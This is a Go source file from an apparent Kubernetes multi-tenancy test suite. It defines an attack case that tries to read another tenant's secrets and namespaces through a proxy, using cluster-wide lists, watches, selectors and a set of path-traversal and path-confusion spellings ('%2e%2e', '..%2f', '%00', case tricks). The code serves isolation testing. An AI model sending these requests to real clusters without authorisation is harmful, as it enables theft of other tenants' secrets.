package catalog

import (
	"context"
	"net/url"
	"strings"

	"k8s.io/apimachinery/pkg/types"
)

func addForeignSecretsProxy(register func(...Attack)) {
	register(Attack{
		ID: "W2", Via: Proxy, Owners: OwnersAccounts,
		Kinds:      []string{"*"},
		Title:      "reads objects of another tenant through the proxy: by lists of all namespaces, watches, and paths in unusual spellings",
		Controls:   []string{"the proxy, which answers with the objects that the caller may see", "RBAC"},
		References: []string{"MTB TI-2"},
		Fix:        Fix{Advice: proxyAdvice + "; and bind the tenant's account with RoleBindings in its own namespaces only"},
		Run: onProxy(func(ctx context.Context, c *proxyClient) ([]rawRequest, error) {
			uids, err := c.victimUIDs(ctx)
			if err != nil {
				return nil, err
			}
			all := append(c.lists(), c.forms(uids)...)
			return append(all, c.spellings(uids)...), nil
		}),
	})
}

// lists returns list requests for the whole cluster.
func (c *proxyClient) lists() []rawRequest {
	var all []rawRequest
	for _, path := range []string{
		namespacesPath, namespacesPath + "?resourceVersion=0", "/api/v1/pods", "/api/v1/secrets", "/api/v1/configmaps", "/api/v1/serviceaccounts", "/api/v1/events",
		"/apis/rbac.authorization.k8s.io/v1/rolebindings", "/apis/kustomize.toolkit.fluxcd.io/v1/kustomizations", "/apis/tenure.dev/v1alpha1/tenants",
	} {
		plain, _, _ := strings.Cut(path, "?")
		parts := strings.Split(plain, "/")
		group := ""
		if parts[1] == "apis" {
			group = parts[2]
		}
		resource := parts[len(parts)-1]
		all = append(all, rawRequest{
			what: "list " + resource + " of others with GET " + path,
			path: path, token: c.token, breach: c.showsForeign(group, resource),
		})
	}
	return all
}

// forms returns lists and watches in the forms that clients use, and with selectors that name the victim.
func (c *proxyClient) forms(uids []types.UID) []rawRequest {
	const events = "watch=true&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true&timeoutSeconds=1"
	name := c.scenario.Victim.Namespace
	var all []rawRequest
	for _, kind := range []string{"namespaces", "secrets"} {
		for _, accept := range []string{
			"application/json;as=Table;g=meta.k8s.io;v=v1", "application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1", "application/vnd.kubernetes.protobuf",
		} {
			all = append(all, rawRequest{
				what: "list " + kind + " of others as " + accept,
				path: "/api/v1/" + kind, token: c.token, header: [][2]string{{"Accept", accept}}, breach: shows(uids),
			})
		}
		selectors := []string{"fieldSelector=" + url.QueryEscape("metadata.namespace="+name), events}
		if kind == "namespaces" {
			selectors = []string{
				"fieldSelector=" + url.QueryEscape("metadata.name="+name), "labelSelector=" + url.QueryEscape("kubernetes.io/metadata.name="+name),
				"labelSelector=" + url.QueryEscape("kubernetes.io/metadata.name in ("+name+")") + "&labelSelector=", events,
			}
		}
		for _, query := range selectors {
			path := "/api/v1/" + kind + "?" + query
			all = append(all, rawRequest{what: "see " + kind + " of others with GET " + path, path: path, token: c.token, breach: shows(uids)})
		}
	}
	return all
}

// spellings returns requests for the victim's objects, with paths that a proxy and an API
// server may parse differently.
func (c *proxyClient) spellings(uids []types.UID) []rawRequest {
	victim, own := c.scenario.Victim.Namespace, c.who.Namespace
	secret := "/secrets/" + c.scenario.Victim.Secret
	var all []rawRequest
	for _, path := range []string{
		namespacesPath + "/" + victim,
		namespacesPath + "/" + victim + secret,
		namespacesPath + "/" + victim + "/secrets?watch=false",
		namespacesPath + "/" + own + "/../" + victim + secret,
		namespacesPath + "/" + own + "/%2e%2e/" + victim + secret,
		namespacesPath + "/" + own + "/..%2f" + victim + secret,
		namespacesPath + "/" + own + "%2f..%2f" + victim + secret,
		namespacesPath + "/./" + victim + secret,
		namespacesPath + "%2f" + victim + secret,
		namespacesPath + "//" + victim + secret,
		"/api//v1/namespaces/" + victim + secret,
		"/api/v1/secrets/../namespaces/" + victim + secret,
		"/API/v1/namespaces/" + victim + secret,
		"/api/v1/Namespaces/" + victim + secret,
		namespacesPath + "/" + victim + secret + "/",
		namespacesPath + "/" + victim + secret + "%00",
		namespacesPath + ";/" + victim + secret,
		"/api/v1/watch/namespaces/" + victim + "/secrets?timeoutSeconds=1",
		"/api/v1/watch/namespaces?timeoutSeconds=1",
	} {
		all = append(all, rawRequest{what: "read another tenant's objects with GET " + path, path: path, token: c.token, breach: shows(uids)})
	}
	return all
}
